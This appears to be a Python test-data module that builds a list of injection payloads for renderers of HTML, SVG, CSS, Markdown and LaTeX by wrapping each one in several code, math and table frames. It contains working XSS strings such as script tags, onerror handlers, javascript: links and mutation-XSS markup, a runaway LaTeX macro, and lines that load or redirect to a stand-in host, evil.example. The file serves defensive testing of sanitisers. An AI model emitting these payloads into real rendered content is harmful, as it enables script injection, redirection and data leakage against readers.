"""Texts that try to run something where they are rendered: HTML, SVG, links, CSS, Markdown, LaTeX."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

_ACTS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=document.title='owned'></style></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>@import url(http://evil.example/x.css); body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(http://evil.example)">x</div>',
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "[x](javascript:document.title='owned')",
    "[x](data:text/html,<script>document.title='owned'</script>)",
    "![x](http://evil.example/x.png)",
    "<javascript:document.title='owned'>",
    "[x]: javascript:document.title='owned'\n\n[x]",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=document.title='owned'>\">",
    "\\href{javascript:document.title='owned'}{x}",
    "\\url{javascript:document.title='owned'}",
    "\\includegraphics[width=1em]{http://evil.example/x.png}",
    "\\htmlStyle{position:fixed}{x}\\htmlId{follow}{y}\\htmlClass{note}{z}\\htmlData{a=b}{c}",
    "\\text{<img src=x onerror=document.title='owned'>}",
    "\\def\\a{\\a\\a}\\a",
    "\\fcolorbox{red;background:url(http://evil.example)}{blue}{x}\\rule{9999em}{9999em}",
    "<form action=http://evil.example><button>x</button></form>",
    "</pre></div></main></body><script>document.title='owned'</script>",
    "<details open ontoggle=\"document.title='owned'\">",
    '<meta http-equiv=refresh content="0;url=http://evil.example"><base href=http://evil.example>',
)
_FRAMES = (
    "{}",
    "${}$",
    "\\[{}\\]",
    "$$\n{}\n$$",
    "\\boxed{{{}}}",
    "```python\n{}\n```",
    "```{}\nx\n```",
    "|a|b|\n|-|-|\n|{}|`{}`|",
    "> - **{}**",
)
PAYLOADS = [
    frame.replace("{}", act).replace("{{", "{").replace("}}", "}")
    for frame, act in product(_FRAMES, _ACTS)
]
